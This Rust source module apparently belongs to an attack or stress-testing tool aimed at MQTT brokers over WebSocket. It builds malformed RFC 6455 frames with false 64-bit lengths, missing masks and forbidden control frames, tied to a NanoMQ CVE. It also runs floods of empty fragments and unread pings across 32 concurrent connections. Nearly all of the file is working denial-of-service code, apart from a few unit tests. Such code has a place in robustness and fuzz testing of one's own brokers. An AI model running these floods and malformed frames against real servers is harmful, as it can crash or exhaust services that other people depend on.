//! WebSocket frames of RFC 6455 that lie, are too many, or ask for answers that are never read.

use std::rc::Rc;

use tokio::io::AsyncWriteExt;

use crate::attacker::Attacker;
use crate::packets::{Connect, PINGREQ};
use crate::stream::{read_to_end, upgraded};

/// Connections of each attack.
const CLIENTS: usize = 32;
/// Mask of all frames: with zeros the payload stays as it is.
const MASK: [u8; 4] = [0; 4];

const CONTINUATION: u8 = 0x00;
const BINARY: u8 = 0x02;
const CLOSE: u8 = 0x08;
const PING: u8 = 0x09;
const FIN: u8 = 0x80;

/// A masked frame with its true length, at most 65,535.
fn frame(first: u8, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).unwrap_or(u16::MAX);
    let mut bytes = vec![first];
    match u8::try_from(length) {
        Ok(short @ 0..126) => bytes.push(0x80 | short),
        _ => {
            bytes.push(0x80 | 126);
            bytes.extend_from_slice(&length.to_be_bytes());
        }
    }
    bytes.extend_from_slice(&MASK);
    bytes.extend_from_slice(payload);
    bytes
}

/// Beginnings of frames whose lengths lie, or that RFC 6455 forbids.
fn lies() -> Vec<Vec<u8>> {
    let connect = Connect::new("liar").encode();
    let long = |length: u64| {
        let mut bytes = vec![FIN | BINARY, 0x80 | 127];
        bytes.extend_from_slice(&length.to_be_bytes());
        bytes.extend_from_slice(&MASK);
        bytes
    };
    vec![
        long(u64::MAX),
        long(i64::MAX as u64),
        long(1 << 32),
        // The largest frame that is taken, with little behind it.
        [long(16 << 20), vec![0; 60_000]].concat(),
        [long(65_536), connect.clone()].concat(),
        // A short length in a long form.
        [long(connect.len() as u64), connect.clone()].concat(),
        // Without a mask.
        [&[FIN | BINARY, 14][..], &connect].concat(),
        // A control frame that is too long, and one in pieces.
        [&[FIN | PING, 0x80 | 126, 0xff, 0xff][..], &MASK, &[0; 1000]].concat(),
        frame(PING, b"piece"),
        // A close frame whose payload is half a code, and reserved bits with a reserved opcode.
        frame(FIN | CLOSE, &[3]),
        frame(0xff, &[0; 10]),
        // A packet in a frame, and a claim of the same frame for more.
        [frame(FIN | BINARY, &connect), long(u64::MAX / 2)].concat(),
    ]
}

/// Frames that lie about their lengths (CVE-2026-25627 of NanoMQ).
pub(crate) async fn lengths(attacker: Rc<Attacker>) {
    let lies = Rc::new(lies());
    let lie = move |attacker: Rc<Attacker>, _at| {
        let lies = Rc::clone(&lies);
        async move {
            for lie in lies.iter() {
                let mut stream = upgraded(&attacker).await?;
                stream.write_all(lie).await?;
                attacker.count(1);
                // Most of these end the connection; the others wait for the time limit of CONNECT.
                let end = read_to_end(&mut stream);
                let _ = tokio::time::timeout(std::time::Duration::from_millis(200), end).await;
            }
            Ok(())
        }
    };
    attacker.workers(CLIENTS, lie).await;
}

/// A message of PINGREQ packets in so many fragments and two: every other one has a byte, the others have none.
fn fragmented(fragments: usize) -> Vec<u8> {
    let mut bytes = frame(BINARY, &PINGREQ[..1]);
    for number in 0..fragments {
        let byte = PINGREQ[(number / 2 + 1) % 2];
        bytes.extend_from_slice(&frame(
            CONTINUATION,
            if number % 2 == 0 { &[] } else { std::slice::from_ref(&byte) },
        ));
    }
    bytes.extend_from_slice(&frame(FIN | CONTINUATION, &PINGREQ[1..]));
    bytes
}

/// One message after the other in fragments of no or one byte.
pub(crate) async fn fragments(attacker: Rc<Attacker>) {
    send(attacker, Rc::new(fragmented(2_000)), 2_002).await;
}

/// Pings of 125 bytes whose pongs are never read.
pub(crate) async fn pings(attacker: Rc<Attacker>) {
    let flood = frame(FIN | PING, &[0x55; 125]).repeat(500);
    send(attacker, Rc::new(flood), 500).await;
}

/// Sends the frames of a CONNECT and then `flood`, of so many frames, again and again, without reading.
async fn send(attacker: Rc<Attacker>, flood: Rc<Vec<u8>>, frames: u64) {
    let send = move |attacker: Rc<Attacker>, at: usize| {
        let flood = Rc::clone(&flood);
        async move {
            let mut stream = upgraded(&attacker).await?;
            let id = format!("frames-{at}");
            stream.write_all(&frame(FIN | BINARY, &Connect::new(&id).encode())).await?;
            loop {
                stream.write_all(&flood).await?;
                attacker.count(frames);
            }
        }
    };
    attacker.workers(CLIENTS, send).await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_those_of_rfc_6455() {
        assert_eq!(frame(FIN | PING, b"ab"), b"\x89\x82\0\0\0\0ab");
        let long = frame(BINARY, &[7; 126]);
        assert_eq!((&long[..8], long.len()), (&b"\x02\xfe\0\x7e\0\0\0\0"[..], 8 + 126));
    }

    #[test]
    fn fragments_join_to_whole_packets() {
        let fragments = fragmented(4);
        let expected = [
            &frame(BINARY, &[0xc0])[..],
            &frame(CONTINUATION, &[]),
            &frame(CONTINUATION, &[0]),
            &frame(CONTINUATION, &[]),
            &frame(CONTINUATION, &[0xc0]),
            &frame(FIN | CONTINUATION, &[0]),
        ];
        assert_eq!(fragments, expected.concat());
    }

    #[test]
    fn lies_are_told_apart() {
        let lies = lies();
        let distinct: std::collections::BTreeSet<_> = lies.iter().collect();
        assert_eq!(distinct.len(), lies.len());
        assert!(lies[0].starts_with(b"\x82\xff\xff\xff\xff\xff\xff\xff\xff\xff"));
    }
}
